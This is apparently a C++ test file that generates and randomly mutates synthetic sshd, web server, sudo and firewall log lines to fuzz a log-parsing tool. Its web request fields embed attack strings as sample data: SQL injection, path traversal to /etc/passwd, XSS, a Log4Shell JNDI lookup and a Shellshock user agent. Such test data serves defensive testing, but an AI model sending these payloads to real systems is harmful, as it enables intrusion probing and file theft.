#include "tests/differential/log_lines.h"

#include <algorithm>
#include <array>
#include <cctype>

namespace bartizan::test {

namespace {

constexpr std::size_t kLongestLine = 1500;

std::string address(RandomSource& random)
{
    static constexpr std::array kAddresses{
        "192.0.2.7", "192.0.2.8",    "198.51.100.23",       "203.0.113.99", "203.0.113.100",    "10.1.2.3",
        "127.0.0.1", "2001:db8::15", "::ffff:198.51.100.4", "fe80::1%eth0", "gate.example.org", "999.1.2.3"};
    return random.oneIn(8) ? kAddresses[random.below(kAddresses.size())] : kAddresses[random.below(4)];
}

std::string user(RandomSource& random)
{
    static constexpr std::array kUsers{"root", "admin", "alice",    "bob",   "test", "oracle",
                                       "git",  "a b",   "www-data", "x@y.z", "",     "invalid user eve"};
    return kUsers[random.below(random.oneIn(4) ? kUsers.size() : 4)];
}

std::string number(RandomSource& random, int low, int high)
{
    return std::to_string(random.between(low, high));
}

std::string header(const std::string& program, RandomSource& random)
{
    static constexpr std::array kStamps{"Mar  7 04:02:11 ", "Nov 24 14:05:09 ",
                                        "2031-03-07T04:02:11.123456+01:00 ", "2031 Mar 07 04:02:11 ",
                                        "2031-03-07 04:02:11,123 "};
    static constexpr std::array kHosts{"gate ", "web7 ", "db.example.org ", ""};
    const std::string stamp = kStamps[random.below(random.oneIn(5) ? kStamps.size() : 2)];
    const std::string host = kHosts[random.below(random.oneIn(6) ? kHosts.size() : 2)];
    const std::string process = random.oneIn(4) ? ": " : "[" + number(random, 300, 320) + "]: ";
    return stamp + host + program + process;
}

std::string sshLine(RandomSource& random)
{
    const std::string from = address(random);
    const std::string who = user(random);
    const std::string port = " port " + number(random, 40000, 40010);
    const std::array lines{
        "Failed password for " + who + " from " + from + port + " ssh2",
        "Failed password for invalid user " + who + " from " + from + port + " ssh2",
        "Failed none for " + who + " from " + from + port + " ssh2",
        "Invalid user " + who + " from " + from + port,
        "Accepted password for " + who + " from " + from + port + " ssh2",
        "Accepted publickey for " + who + " from " + from + port + " ssh2: ED25519 SHA256:abcdefghij",
        "Received disconnect from " + from + port + ":11: Bye Bye [preauth]",
        "Disconnected from authenticating user " + who + " " + from + port + " [preauth]",
        "Connection closed by authenticating user " + who + " " + from + port + " [preauth]",
        "Connection closed by " + from + port + " [preauth]",
        "Did not receive identification string from " + from + port,
        "banner exchange: Connection from " + from + port + ": invalid format",
        "Bad protocol version identification 'GET / HTTP/1.1' from " + from + port,
        "error: maximum authentication attempts exceeded for " + who + " from " + from + port +
            " ssh2 [preauth]",
        "Unable to negotiate with " + from + port +
            ": no matching key exchange method found. Their offer: x [preauth]",
        "reverse mapping checking getaddrinfo for host.example [" + from +
            "] failed - POSSIBLE BREAK-IN ATTEMPT!",
        "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=" + from +
            "  user=" + who,
        "PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=" + from +
            " user=" + who,
        "User " + who + " from " + from + " not allowed because not listed in AllowUsers",
        std::string("Server listening on 0.0.0.0 port 22.")};
    return header("sshd", random) + random.pick(lines);
}

std::string webLine(RandomSource& random)
{
    static constexpr std::array kPaths{"/",
                                       "/index.html",
                                       "/wp-login.php",
                                       "/api/v1/items?id=1%20union%20select%201,2",
                                       "/search?q=x'+OR+1=1--",
                                       "/../../etc/passwd",
                                       "/cgi-bin/test.cgi",
                                       "/cgi-bin/.%2e/.%2e/bin/sh",
                                       "/a?b=<script>alert(1)</script>",
                                       "/?x=${jndi:ldap://192.0.2.9/a}",
                                       "/.env",
                                       "/phpmyadmin/",
                                       "/x.php?cmd=cat%20/etc/passwd",
                                       "/images/logo.png"};
    static constexpr std::array kStatus{"200", "301", "304", "400", "401", "403", "404", "404", "500", "503"};
    static constexpr std::array kMethods{"GET", "GET", "POST", "HEAD", "PROPFIND", "-"};
    static constexpr std::array kAgents{"Mozilla/5.0 (X11; Linux x86_64)",
                                        "curl/7.88.1",
                                        "sqlmap/1.7",
                                        "Nikto",
                                        "() { :; }; /bin/bash -c id",
                                        "-"};
    const std::string from = address(random);
    const std::string path = random.pick(kPaths);
    if (random.oneIn(6)) {
        const std::array errors{"[error] [client " + from + "] File does not exist: /var/www" + path,
                                "[error] [client " + from +
                                    ":4711] user admin: authentication failure for \"" + path +
                                    "\": Password Mismatch",
                                "[auth_basic:error] [pid 311] [client " + from +
                                    ":4711] AH01617: user admin: authentication failure",
                                "[:error] [pid 311] [client " + from +
                                    "] ModSecurity: Access denied with code 403 (phase 2). [id \"981\"]"};
        return "[Fri Feb 11 18:06:35 2031] " + random.pick(errors);
    }
    if (random.oneIn(8))
        return "2031/02/11 18:06:35 [error] 311#311: *7 open() \"/var/www" + path +
               "\" failed (2: No such file or directory), client: " + from + ", server: _, request: \"GET " +
               path + " HTTP/1.1\", host: \"gate\"";
    return from + " - " + (random.oneIn(5) ? user(random) : "-") + " [03/Feb/2031:04:05:06 +0100] \"" +
           random.pick(kMethods) + " " + path + " HTTP/1.1\" " + random.pick(kStatus) + " " +
           number(random, 0, 5000) + " \"-\" \"" + random.pick(kAgents) + "\"";
}

std::string accountLine(RandomSource& random)
{
    const std::string who = user(random);
    switch (random.below(8)) {
    case 0:
        return header("sudo", random) + "    " + who + " : TTY=pts/0 ; PWD=/home/" + who +
               " ; USER=root ; COMMAND=/usr/bin/apt update";
    case 1:
        return header("sudo", random) + "    " + who +
               " : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh";
    case 2:
        return header("sudo", random) + "    " + who +
               " : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh";
    case 3:
        return header("su", random) + "pam_unix(su:auth): authentication failure; logname=" + who +
               " uid=1000 euid=0 tty=/dev/pts/1 ruser=" + who + " rhost=  user=root";
    case 4:
        return header("CRON", random) + "pam_unix(cron:session): session opened for user " + who +
               "(uid=0) by (uid=0)";
    case 5:
        return header("login", random) + "pam_unix(login:session): session closed for user " + who;
    case 6:
        return header("su", random) + "FAILED su for root by " + who;
    default:
        return header("useradd", random) + "new user: name=" + who +
               ", UID=1001, GID=1001, home=/home/x, shell=/bin/sh";
    }
}

std::string otherLine(RandomSource& random)
{
    const std::string from = address(random);
    switch (random.below(6)) {
    case 0:
        return header("kernel", random) + "[4711.000123] IN=eth0 OUT= MAC=00:11:22:33:44:55 SRC=" + from +
               " DST=10.0.0.5 LEN=60 TOS=0x00 PREC=0x00 TTL=50 ID=" + number(random, 1, 9) +
               " DF PROTO=TCP SPT=" + number(random, 4000, 4003) + " DPT=22 WINDOW=1024 RES=0x00 SYN URGP=0";
    case 1:
        return header("systemd", random) + "Started Daily apt download activities.";
    case 2:
        return R"({"srcip":")" + from + R"(","user":")" + user(random) + R"(","n":)" + number(random, -9, 9) +
               R"(,"a":[1,"x",null],"o":{"p":true,"q":3.25}})";
    case 3:
        return "2031/02/03 04:05:06 active-response/bin/firewall-drop: "
               "{\"version\":1,\"command\":\"add\",\"parameters\":{\"alert\":{\"data\":{\"srcip\":\"" +
               from + "\"}}}}";
    case 4:
        return "ossec: output: 'df -P': /dev/sda1 " + number(random, 90, 99) + "%";
    default:
        return header("rsyslogd", random) + "imuxsock lost " + number(random, 1, 99) + " messages";
    }
}

std::size_t pieceAt(const std::string& line, std::size_t from, RandomSource& random)
{
    return std::min(line.size() - from, 1 + random.below(40));
}

} // namespace

std::string usualLine(RandomSource& random)
{
    switch (random.below(10)) {
    case 0:
    case 1:
    case 2:
    case 3:
        return sshLine(random);
    case 4:
    case 5:
    case 6:
        return webLine(random);
    case 7:
    case 8:
        return accountLine(random);
    default:
        return otherLine(random);
    }
}

std::string mutated(std::string line, const std::string& other, RandomSource& random)
{
    static constexpr std::string_view kPunctuation = " :;,.[](){}<>\"'\\/|$^*+?!%&=-_@#\t";
    for (int rounds = random.between(1, 3); rounds > 0; --rounds) {
        if (line.empty())
            return other.substr(0, kLongestLine);
        const std::size_t at = random.below(line.size());
        const std::size_t size = pieceAt(line, at, random);
        switch (random.below(10)) {
        case 0: // a byte
            line[at] = static_cast<char>(line[at] ^ (1 << random.below(8)));
            break;
        case 1: // cut, in the middle or to the end
            line.erase(at, random.oneIn(2) ? size : line.size() - at);
            break;
        case 2:
            line.insert(at, line.substr(at, size));
            break;
        case 3: // the start of one, the end of the other
            line = line.substr(0, at) + other.substr(other.empty() ? 0 : random.below(other.size()));
            break;
        case 4:
            for (std::size_t i = at; i < at + size; ++i) {
                const auto c = static_cast<unsigned char>(line[i]);
                line[i] = static_cast<char>(std::isupper(c) != 0 ? std::tolower(c) : std::toupper(c));
            }
            break;
        case 5:
        case 6:
            line.insert(at, 1, random.pick(kPunctuation));
            break;
        case 7:
            line.insert(at, random.oneIn(2) ? "\xC3\xA4" : "\xFF\x80");
            break;
        case 8: // digits
            std::ranges::transform(line, line.begin(), [&](char c) {
                return c >= '0' && c <= '9' && random.oneIn(6) ? static_cast<char>('0' + random.below(10))
                                                               : c;
            });
            break;
        default: // a word of the other line
            if (!other.empty()) {
                const std::size_t from = random.below(other.size());
                line.insert(at, other.substr(from, pieceAt(other, from, random)));
            }
            break;
        }
    }
    line.resize(std::min(line.size(), kLongestLine));
    return line;
}

} // namespace bartizan::test
